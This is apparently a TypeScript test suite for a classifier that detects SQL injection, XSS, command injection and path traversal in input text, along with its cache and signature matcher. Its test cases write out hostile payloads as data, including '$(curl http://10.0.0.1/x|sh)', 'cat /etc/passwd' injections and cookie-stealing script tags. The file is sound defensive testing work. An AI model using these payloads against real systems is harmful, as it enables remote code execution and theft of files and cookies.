import { describe, expect, test } from "bun:test"
import { join } from "node:path"
import fc from "fast-check"
import { generatePayloads } from "../../../src/ml/generators/payloads.ts"
import { cachedClassifier, predictionMemory } from "../../../src/ml/serving/cached-classifier.ts"
import { loadPayloadClassifier } from "../../../src/ml/serving/load-payload-classifier.ts"
import { checkParity, PARITY_TOLERANCE } from "../../../src/ml/serving/onnx-parity.ts"
import { signatureOpinion } from "../../../src/ml/serving/signatures.ts"
import { cpuMsOf } from "../../support/cpu-time.ts"

const SHIPPED = join(import.meta.dir, "../../../models/payload-linear/1.4.0")
const classifier = await loadPayloadClassifier(SHIPPED)

describe("LinearPayloadClassifier, as shipped", () => {
  test.each([
    ["1' OR '1'='1", "sql_injection"],
    ["admin'-- ", "sql_injection"],
    ["<svg onload=alert(1)>", "xss"],
    ["127.0.0.1; cat /etc/passwd", "command_injection"],
    ["$(curl http://10.0.0.1/x|sh)", "command_injection"],
    ["../../../../etc/passwd", "path_traversal"],
    ["%252e%252e%252fetc%252fpasswd", "path_traversal"],
    ["O'Brien & Sons", "benign"],
    ["The quick brown fox jumps over the lazy dog.", "benign"],
    ["", "benign"],
  ])("classify says of %p: %p", (text, expected) => {
    expect(classifier.classify({ text }).class).toBe(expected)
  })

  test("classify is sure of the two examples that the README shows", () => {
    expect(classifier.classify({ text: "1' OR '1'='1" }).confidence).toBeGreaterThan(0.99)
    expect(classifier.classify({ text: "O'Brien & Sons" }).confidence).toBeGreaterThan(0.95)
  })

  test("classify gives probabilities that sum to 1 for any text", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 600 }), (text) => {
        const { probabilities, confidence } = classifier.classify({ text })
        const values = Object.values(probabilities)
        expect(values.reduce((total, value) => total + value, 0)).toBeCloseTo(1, 9)
        expect(confidence).toBe(Math.max(...values))
      }),
    )
  })

  test("classify finds an attack wherever it stands in 4 KB of padding", () => {
    const padding = "lorem ipsum dolor sit amet ".repeat(150)
    for (const cut of [0, 1000, 2500, padding.length]) {
      const text = `${padding.slice(0, cut)}<script>alert(document.cookie)</script>${padding.slice(cut)}`
      expect(classifier.classify({ text }).class).toBe("xss")
    }
  })

  test("classify agrees with ONNX Runtime on generated payloads", async () => {
    const model = await Bun.file(join(SHIPPED, "model.onnx")).bytes()
    const payloads = [...generatePayloads({ seed: 99, count: 1000 })]
    expect(await checkParity(model, classifier, payloads)).toBeLessThanOrEqual(PARITY_TOLERANCE)
  })

  test("explain points at the characters of the payload as received", () => {
    const text = "name=Mary%20Smith&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    const spans = classifier.explain({ text }, 3)
    expect(spans.length).toBeGreaterThan(0)
    for (const span of spans) expect(span.text).toBe(text.slice(span.start, span.end))
    const first = spans[0]
    expect(first?.shap_value).toBeGreaterThan(0)
    expect(first?.end).toBeGreaterThan(text.indexOf("%3Cscript"))
  })

  test("explain gives bounded, sorted spans inside any text", () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 400 }),
        fc.integer({ min: 1, max: 5 }),
        (text, spansMax) => {
          const spans = classifier.explain({ text }, spansMax)
          expect(spans.length).toBeLessThanOrEqual(spansMax)
          const weights = spans.map((span) => Math.abs(span.shap_value))
          expect(weights).toEqual(weights.toSorted((left, right) => right - left))
          for (const { start, end } of spans) {
            expect(start).toBeLessThan(end)
            expect(end).toBeLessThanOrEqual(text.length)
          }
        },
      ),
    )
  })
})

describe("cachedClassifier", () => {
  test("answers the second time from memory, by text and kind", () => {
    const hits: boolean[] = []
    const cached = cachedClassifier(classifier, {
      entriesMax: 2,
      ttlMs: 60_000,
      onLookup: (hit) => hits.push(hit),
    })
    const input = { text: "a' or 1=1" }
    expect(cached.lookup(input).cached).toBe(false)
    expect(cached.lookup(input)).toEqual({
      classification: classifier.classify(input),
      cached: true,
    })
    expect(cached.lookup({ ...input, kind: "path" }).cached).toBe(false)
    expect(hits).toEqual([false, true, false])
    expect(cached.cacheStats()).toEqual({ entries: 2, entriesMax: 2, hits: 1, misses: 2 })
  })

  test("cachedClassifier shares one bound with other models, and no answer", () => {
    const options = { entriesMax: 3, ttlMs: 60_000 }
    const memory = predictionMemory(options)
    const [one, other] = [1, 2].map(() => cachedClassifier(classifier, { ...options, memory }))
    one?.classify({ text: "a" })
    expect(other?.lookup({ text: "a" }).cached).toBe(false)
    expect(one?.lookup({ text: "a" }).cached).toBe(true)
    for (const text of ["b", "c", "d"]) other?.classify({ text })
    expect([one?.cacheStats().entries, other?.cacheStats().entries]).toEqual([3, 3])
    expect(one?.lookup({ text: "a" }).cached).toBe(false)
  })

  test("cachedClassifier hands on what it was asked last, and warms up without counting", () => {
    const options = { entriesMax: 10, ttlMs: 60_000 }
    const memory = predictionMemory(options)
    const one = cachedClassifier(classifier, { ...options, memory })
    const other = cachedClassifier(classifier, { ...options, memory })
    const inputs = [{ text: "a" }, { text: "b\nc", kind: "header" }, { text: "\n" }] as const
    for (const input of inputs) one.classify(input)
    other.classify({ text: "of the other" })
    expect(one.recent(10)).toEqual([...inputs].reverse())
    // the newest three are one of the other and two of its own
    expect(one.recent(3)).toEqual([inputs[2], inputs[1]])
    for (const input of one.recent(10)) other.warm(input)
    expect(other.cacheStats()).toMatchObject({ hits: 0, misses: 1 })
    for (const input of inputs) expect(other.lookup(input).cached).toBe(true)
  })

  test("holds no more than its bound and no text beyond 4096 characters", () => {
    const cached = cachedClassifier(classifier, { entriesMax: 2, ttlMs: 60_000 })
    for (const text of ["a", "b", "c", "d"]) cached.classify({ text })
    expect(cached.cacheStats().entries).toBe(2)
    const long = { text: "a".repeat(4097) }
    cached.lookup(long)
    expect(cached.lookup(long).cached).toBe(false)
  })
})

describe("signatureOpinion", () => {
  test.each([
    ["1' OR '1'='1", "sql_injection", "sql_tautology"],
    ["1 UnIoN/**/SeLeCt 1", "sql_injection", "sql_union_select"],
    ["%3Cscript%3Ealert(1)", "xss", "xss_script_element"],
    ["; wget http://x", "command_injection", "shell_chained_command"],
    ["..%252f..%252fetc/passwd", "path_traversal", "path_climb"],
  ])("signatureOpinion says of %p: %p by %p", (text, expected, signature) => {
    const opinion = signatureOpinion({ text })
    expect(opinion.class).toBe(expected as typeof opinion.class)
    expect(opinion.matched).toContain(signature)
  })

  test.each(["O'Brien & Sons", "Select a seat or order tea", "a; b | c", "C:\\Users\\me"])(
    "signatureOpinion matches nothing in %p",
    (text) => {
      expect(signatureOpinion({ text })).toEqual({ class: "benign", matched: [] })
    },
  )

  test("signatureOpinion takes linear time over hostile repetition", () => {
    const units = ["' or ", "a/", "; ", "(", "`a", "on", "\\", "'a'='a"]
    const cpuMs = cpuMsOf(() => {
      for (const unit of units) signatureOpinion({ text: unit.repeat(100_000) })
    })
    expect(cpuMs).toBeLessThan(2_000)
  })
})
